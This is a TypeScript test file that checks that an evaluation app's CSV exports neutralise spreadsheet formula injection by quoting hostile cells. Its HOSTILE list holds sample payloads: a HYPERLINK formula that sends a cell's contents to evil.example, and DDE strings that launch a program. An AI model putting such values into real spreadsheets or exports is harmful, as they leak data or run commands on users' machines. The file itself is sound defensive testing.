import { beforeAll, describe, expect, it } from "vitest";
import { db } from "../../lib/db";
import { parseCsv } from "../../lib/stats";
import { csvField, csvLine } from "../../lib/results/csv";
import { campaignReport } from "../../lib/results/campaign-report";
import { judgmentsCsvStream } from "../../lib/results/judgments-csv";
import { seedResultsCampaign } from "../../lib/results/seed-results-campaign";
import { DEFAULT_RESULTS_SETTINGS } from "../../lib/results/settings";
import { makeDemoModel, makePromptSet, makeUser } from "../../tests/support/factories";

/**
 * CSV injection (OWASP): a spreadsheet runs a cell that starts with = + - @ (or a tab / carriage
 * return before one) as a formula. Every text cell of every CSV export that starts so is written
 * with a leading single quote; numbers stay numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"];

function dangerousCells(text: string): string[] {
  return parseCsv(text, "export.csv")
    .flatMap((r) => r.fields)
    .filter((f) => FORMULA_START.test(f) && !NUMBER.test(f));
}

async function streamText(stream: ReadableStream<Uint8Array>): Promise<string> {
  let text = "";
  const decoder = new TextDecoder();
  for await (const chunk of stream as unknown as AsyncIterable<Uint8Array>)
    text += decoder.decode(chunk, { stream: true });
  return text;
}

describe("CSV exports neutralise formula cells", () => {
  it("quotes every text cell that starts with = + - @ tab or CR, and leaves numbers alone", () => {
    for (const value of [...HOSTILE, "\t=1+1", "\r=1+1"]) {
      const [record] = parseCsv(csvLine([value]), "t.csv");
      expect(record.fields[0], JSON.stringify(value)).toBe(`'${value}`);
    }
    expect(csvField(-0.25)).toBe("-0.25");
    expect(csvField("-0.25")).toBe("-0.25");
    expect(csvField("+3e-5")).toBe("+3e-5");
    expect(csvField("a = b")).toBe("a = b");
  });

  let campaignId: string;
  let owner: Awaited<ReturnType<typeof makeUser>>;
  beforeAll(async () => {
    owner = await makeUser("researcher");
    const set = await makePromptSet(6, { categories: ["=cmd|' /C calc'!A0", "Animals"] });
    for (const [i, prompt] of set.prompts.slice(0, HOSTILE.length).entries())
      await db.prompt.update({ where: { id: prompt.id }, data: { text: HOSTILE[i] } });
    const models = [await makeDemoModel("demo-smooth"), await makeDemoModel("demo-noisy")];
    await db.model.update({ where: { id: models[0].id }, data: { name: `-${models[0].name}` } });
    const annotators = await Promise.all([1, 2, 3].map(() => makeUser("annotator")));
    ({ campaignId } = await seedResultsCampaign({
      ownerId: owner.id,
      promptSetId: set.id,
      modelIds: models.map((m) => m.id),
      annotators: annotators.map((a) => a.id),
    }));
  });

  it("the judgment export holds the hostile prompts, category and model name only as quoted text", async () => {
    const text = await streamText(
      await judgmentsCsvStream(owner, campaignId, { ...DEFAULT_RESULTS_SETTINGS, rounds: 50 }),
    );
    expect(dangerousCells(text)).toEqual([]);
    const fields = parseCsv(text, "judgments.csv").flatMap((r) => r.fields);
    for (const prompt of HOSTILE) expect(fields).toContain(`'${prompt}`);
    expect(fields).toContain("'=cmd|' /C calc'!A0");
  });

  it("the figures export does too, and keeps negative numbers as numbers", async () => {
    const text = await campaignReport(owner, campaignId, { ...DEFAULT_RESULTS_SETTINGS, rounds: 50 }, "figures-csv");
    expect(dangerousCells(text)).toEqual([]);
    const fields = parseCsv(text, "figures.csv").flatMap((r) => r.fields);
    expect(fields).toContain("'=cmd|' /C calc'!A0");
    expect(fields.some((f) => /^-\d/.test(f))).toBe(true);
  });
});
